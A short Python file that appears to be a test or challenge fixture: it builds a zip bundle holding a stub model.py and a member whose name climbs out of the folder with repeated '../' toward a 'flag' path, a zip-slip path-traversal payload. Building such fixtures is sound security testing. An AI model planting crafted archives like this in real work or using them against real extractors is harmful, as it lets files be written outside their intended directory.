"""A member whose name leads out of the folder, to the flag."""

import io
import zipfile

MODEL = "class Model:\n    def denoise(self, noisy):\n        return noisy\ndef load(folder, device):\n    return Model()\n"


def make(world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bundle:
        bundle.writestr("model.py", MODEL)
        bundle.writestr("../" * 12 + world["flag_path"].lstrip("/"), "slipped")
    return buffer.getvalue()
